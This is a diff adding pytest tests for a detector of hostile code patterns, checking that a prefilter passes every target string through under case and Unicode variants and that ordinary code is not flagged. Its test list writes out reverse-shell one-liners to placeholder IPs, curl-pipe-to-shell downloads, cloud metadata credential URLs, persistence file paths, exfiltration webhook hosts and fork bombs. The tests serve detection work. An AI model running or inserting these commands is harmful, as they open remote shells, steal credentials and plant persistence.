@@ -70,3 +70,43 @@ def test_guard_lines_are_not_targets() -> None:
            '    return get("http://169.254.169.254/latest/meta-data/")\n')
     hits = {line: hostile.guarded(t) for line, t in target_hits(src, "a.py")}
     assert hits == {2: True, 5: True, 7: False}
+
+
+CATEGORY_TEXTS = [
+    "http://169.254.169.254/latest/meta-data/", "http://169.254.170.2/v2/credentials", "http://metadata.google.internal/x",
+    "http://[fd00:ec2::254]/latest/api/token", "http://100.100.100.200/latest/", "https://metadata.azure.com/x",
+    "/var/run/docker.sock", r"\\.\pipe\docker_engine", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+    "nc -e /bin/sh 203.0.113.9 4444", "ncat 203.0.113.9 4444 -e /bin/bash", "zsh -i 2>&1 >/dev/null",
+    "socat tcp:203.0.113.9:4444 exec:/bin/sh", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc h 4 >/tmp/f",
+    "socket.socket(); os.dup2(s.fileno(), 0)", "pty.spawn('/bin/sh')", "curl -fsSL https://get.example.net/i.sh | sh",
+    "wget -qO- https://x.example/i.sh | sudo bash", "curl https://x.example/a.py | python3",
+    "iex (iwr https://get.example.net/i.ps1)", "Invoke-Expression (New-Object Net.WebClient)",
+    "~/.bashrc", "/home/u/.zshrc", "~/.profile", "~/.ssh/authorized_keys2", "~/Library/LaunchDaemons/x.plist",
+    "~/.config/systemd/user/agent.service", "/etc/systemd/system/x.service", "~/.config/autostart/x.desktop",
+    "/etc/rc.local", "/etc/profile.d/x.sh", "/etc/init.d/x", "/etc/cron.daily/x", "/var/spool/cron/root",
+    "(crontab -l; echo x) | crontab -", r"Software\Microsoft\Windows\CurrentVersion\RunOnce",
+    r"AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup", "https://webhook.site/3f0c",
+    "https://a1b2.ngrok-free.app/c", "https://discord.com/api/webhooks/1/abc", "https://api.telegram.org/bot1/send",
+    "http://198.51.100.40/t", ":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb",
+]
+
+
+@pytest.mark.parametrize("text", CATEGORY_TEXTS)
+def test_pieces_prefilter_lets_every_target_through(text: str) -> None:
+    """`may_find_in_pieces` is False only where `find` can match in no piece: every target, in any
+    case (and with the non-ASCII letters IGNORECASE takes for ASCII ones), as a literal of code."""
+    assert hostile.find(text), text
+    variants = [text, text.upper(), text.title(), text.replace("s", "\u017f").replace("k", "\u212a").replace("i", "\u0131")]
+    for variant in variants:
+        for code in (variant, f'x = "{variant}"\n', f"const y = `{variant}`;\nasync function sync() {{}}\n"):
+            if any(hostile.find(piece) for piece in (variant, code)):
+                assert hostile.may_find_in_pieces(code), code
+
+
+@pytest.mark.parametrize("text", [
+    "import importlib.metadata\nasync def sync(func): return user.profile\n",
+    "const func = async () => fetch('https://api.github.com/repos'); // metadata, docker, curl",
+    "x = 'http://localhost:8080/v1' + 'http://10.0.0.4:9200'  # ssh -v, nc -z host 80", "",
+])
+def test_pieces_prefilter_passes_ordinary_code(text: str) -> None:
+    assert not hostile.may_find_in_pieces(text)
